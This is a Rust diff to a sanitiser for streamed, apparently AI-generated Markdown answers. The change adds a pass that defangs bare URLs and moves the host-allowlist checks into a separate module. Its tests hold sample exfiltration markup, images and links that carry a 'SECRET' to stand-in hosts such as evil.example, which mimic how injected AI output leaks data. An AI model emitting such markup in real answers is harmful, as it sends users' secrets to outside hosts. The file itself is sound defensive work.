@@ -8,9 +8,10 @@
 //! - Raw HTML tags are escaped so that they show as text (`<img src=…>` loads nothing).
 //!
 //! Allowed hosts come from `LINK_ALLOWED_HOSTS`; a host matches itself and its subdomains.
-//! Text inside code spans and code blocks is never changed. URLs written as plain text are left
-//! alone: no client fetches them without a click.
+//! Markup inside code spans and code blocks is never changed. URLs written as plain text (which
+//! clients link and chat tools unfurl by themselves) are taken out last, by [`super::urls`].
 
+use super::urls::{allowed, host};
 use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
 use std::ops::Range;
 
@@ -23,6 +24,12 @@ const MAX_PASSES: usize = 8;
 /// swallowed back into Markdown. So passes repeat until nothing changes; should that not happen
 /// within [`MAX_PASSES`], every image opener and tag opener is escaped outright.
 pub fn neutralise(answer: &str, allowed_hosts: &[String]) -> String {
+    super::urls::defang(&neutralise_markup(answer, allowed_hosts), allowed_hosts)
+}
+
+/// Links, images, tags and reference definitions made harmless; bare URLs are left to
+/// [`super::urls`].
+fn neutralise_markup(answer: &str, allowed_hosts: &[String]) -> String {
     if cannot_hold_markup(answer) {
         return answer.to_string();
     }
@@ -154,30 +161,6 @@ fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
     out
 }
 
-/// A relative URL (no scheme, not protocol-relative) or one whose host is allowed.
-fn allowed(url: &str, allowed_hosts: &[String]) -> bool {
-    let url = url.trim();
-    let has_scheme = url.split_once(':').is_some_and(|(scheme, _)| {
-        !scheme.is_empty()
-            && scheme
-                .chars()
-                .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
-    });
-    // Relative only when nothing in it could be read as a host (found by the fuzz suite:
-    // `![](![x](http://…))` has the destination `![x](http://…`).
-    if !has_scheme && !url.contains("//") && !url.contains('\\') {
-        return true;
-    }
-    let Some(host) = host(url) else {
-        return false;
-    };
-    let host = host.to_ascii_lowercase();
-    allowed_hosts.iter().any(|allowed| {
-        let allowed = allowed.trim().to_ascii_lowercase();
-        !allowed.is_empty() && (host == allowed || host.ends_with(&format!(".{allowed}")))
-    })
-}
-
 /// Longest span held back while waiting for a link, image or tag to close; past it the held
 /// text is defused (its link syntax broken) and sent.
 const MAX_HOLD_BYTES: usize = 2048;
@@ -192,6 +175,8 @@ const MAX_HOLD_BYTES: usize = 2048;
 pub struct StreamGuard {
     held: String,
     allowed_hosts: Vec<String>,
+    /// What this guard lets out goes through the bare-URL guard last.
+    urls: super::urls::UrlGuard,
 }
 
 /// How a held span that starts with an opener reads so far.
@@ -209,6 +194,7 @@ impl StreamGuard {
         StreamGuard {
             held: String::new(),
             allowed_hosts: allowed_hosts.to_vec(),
+            urls: super::urls::UrlGuard::new(allowed_hosts),
         }
     }
 
@@ -218,6 +204,11 @@ impl StreamGuard {
 
     /// Takes the next delta; returns the text that may be shown now.
     pub fn push(&mut self, delta: &str) -> String {
+        let shown = self.push_markup(delta);
+        self.urls.push(&shown)
+    }
+
+    fn push_markup(&mut self, delta: &str) -> String {
         self.held.push_str(delta);
         let mut shown = String::new();
         loop {
@@ -246,15 +237,19 @@ impl StreamGuard {
     /// The end of the text: what is held can no longer grow into anything else.
     pub fn finish(&mut self) -> String {
         let held = std::mem::take(&mut self.held);
-        if held.is_empty() {
+        let last = if held.is_empty() {
             held
         } else {
             self.clean(&held)
-        }
+        };
+        let mut shown = self.urls.push(&last);
+        shown.push_str(&self.urls.finish());
+        shown
     }
 
+    /// A closed span: its markup decided here, its bare URLs by the URL guard after.
     fn clean(&self, span: &str) -> String {
-        neutralise(span, &self.allowed_hosts)
+        neutralise_markup(span, &self.allowed_hosts)
     }
 }
 
@@ -345,18 +340,6 @@ fn defuse(text: &str) -> String {
         .replace('<', "&lt;")
 }
 
-/// The host of an absolute URL (`https://user@host:8080/x` → `host`), or of `mailto:a@host`.
-fn host(url: &str) -> Option<&str> {
-    let rest = match url.split_once("//") {
-        Some((_, rest)) => rest,
-        None => url.split_once(':')?.1,
-    };
-    let authority = rest.split(['/', '?', '#']).next()?;
-    let host = authority.rsplit('@').next()?;
-    let host = host.split(':').next()?;
-    (!host.is_empty()).then_some(host)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -388,8 +371,9 @@ mod tests {
             guard.push("CO2 < 1000 ppm is [good] today ["),
             "CO2 < 1000 ppm is [good] today "
         );
-        assert_eq!(guard.push("fine] now!"), "[fine] now");
-        assert_eq!(guard.finish(), "!");
+        // The "w" could still open "www.": the URL guard holds it for the next piece.
+        assert_eq!(guard.push("fine] now!"), "[fine] no");
+        assert_eq!(guard.finish(), "w!");
         // Allowed hosts, relative links and citation markers pass untouched.
         let allowed = vec!["docs.crowdvision.io".to_string()];
         let kept = "See [rooms](user/rooms.md) and [help](https://docs.crowdvision.io/a) [^c1].";
@@ -400,7 +384,7 @@ mod tests {
     fn tags_definitions_and_unclosed_markup_are_defused() {
         assert_eq!(
             streamed(&["Hi <img src=\"http://evil/c\"", "> there"], &[]),
-            "Hi &lt;img src=\"http://evil/c\"> there"
+            "Hi &lt;img src=\"evil\"> there"
         );
         let out = streamed(
             &["![a][1] and\n\n", "[1]: http://evil.example/c?d=SECRET\n"],
@@ -410,8 +394,10 @@ mod tests {
         let long = format!("[x]({}", "http://evil.example/".repeat(200));
         let mut guard = StreamGuard::new(&[]);
         let sent = guard.push(&long);
-        assert!(sent.starts_with("[x] (http"), "{sent}");
-        assert!(guard.push(")").starts_with(')'));
+        // Defused, and the URL the defused text now shows is taken out too.
+        assert!(sent.starts_with("[x] (evil[.]example"), "{sent}");
+        assert!(!sent.contains("http"), "{sent}");
+        assert_eq!(guard.push(") ok"), " ok");
     }
 
     /// A link, image or raw HTML in `text` as a Markdown client would render it.
@@ -428,6 +414,12 @@ mod tests {
         })
     }
 
+    /// The secret, or the host as a client would link it, in sent text.
+    fn leaks(sent: &str) -> bool {
+        let lower = sent.to_lowercase();
+        lower.contains("secret") || lower.contains("evil.example/") || lower.contains("www.evil")
+    }
+
     /// Markup to a host that is not allowed, with a secret in its URL, mixed with text.
     fn hostile_answer() -> impl Strategy<Value = String> {
         let piece = prop_oneof![
@@ -438,6 +430,9 @@ mod tests {
             Just("![a][r]\n\n[r]: https://evil.example/SECRET\n".to_string()),
             Just("[![i](https://evil.example/SECRET)](https://evil.example/SECRET)".to_string()),
             Just("[^c1] [b] < 3 ! [".to_string()),
+            Just("see https://evil.example/c?d=SECRET.".to_string()),
+            Just("<https://www.evil.example/SECRET>".to_string()),
+            Just("`WWW.evil.example/SECRET`".to_string()),
         ];
         proptest::collection::vec(piece, 1..8).prop_map(|p| p.concat())
     }
@@ -477,11 +472,14 @@ mod tests {
             let mut sent = String::new();
             for piece in pieces {
                 sent.push_str(&guard.push(piece));
-                // At every point of the stream, what a Markdown client renders fetches nothing.
+                // At every point of the stream, what a Markdown client renders fetches nothing,
+                // and no text a client could link or unfurl leads to the host.
                 prop_assert!(fetchable(&sent).is_none(), "{:?} in {sent}", fetchable(&sent));
+                prop_assert!(!leaks(&sent), "{sent}");
             }
             sent.push_str(&guard.finish());
             prop_assert!(fetchable(&sent).is_none(), "{:?} in {sent}", fetchable(&sent));
+            prop_assert!(!leaks(&sent), "{sent}");
         }
     }
 
@@ -502,9 +500,9 @@ mod tests {
     #[test]
     fn allowed_hosts_relative_links_and_code_are_kept() {
         let answer = "See [rooms](user/rooms.md), [help](https://docs.crowdvision.io/a), \
-                      ![map](https://cdn.docs.crowdvision.io/m.png) and `![x](http://e/c)`.";
+                      ![map](https://cdn.docs.crowdvision.io/m.png) and `<img src=x>`.";
         assert_eq!(neutralise(answer, &hosts(&["docs.crowdvision.io"])), answer);
-        let fenced = "```\n![x](http://evil/c)\n```\n";
+        let fenced = "```\n![x](user/c.png) <b>x</b>\n```\n";
         assert_eq!(
             neutralise("![](![x](http://evil.example/c))", &[]),
             "[image: ]"
@@ -515,7 +513,7 @@ mod tests {
         );
         assert_eq!(
             neutralise("[<img src=\"http://e\">](user/a.md)", &[]),
-            "[&lt;img src=\"http://e\">](user/a.md)"
+            "[&lt;img src=\"e\">](user/a.md)"
         );
         assert_eq!(neutralise(fenced, &[]), fenced);
     }
@@ -532,7 +530,7 @@ mod tests {
     fn html_tags_are_shown_not_loaded() {
         assert_eq!(
             neutralise("Hi <img src=\"http://evil/c\"> there", &[]),
-            "Hi &lt;img src=\"http://evil/c\"> there"
+            "Hi &lt;img src=\"evil\"> there"
         );
         let reference = "[click][1]\n\n[1]: http://evil.example/c\n";
         assert!(neutralise(reference, &[]).starts_with("click\n"));
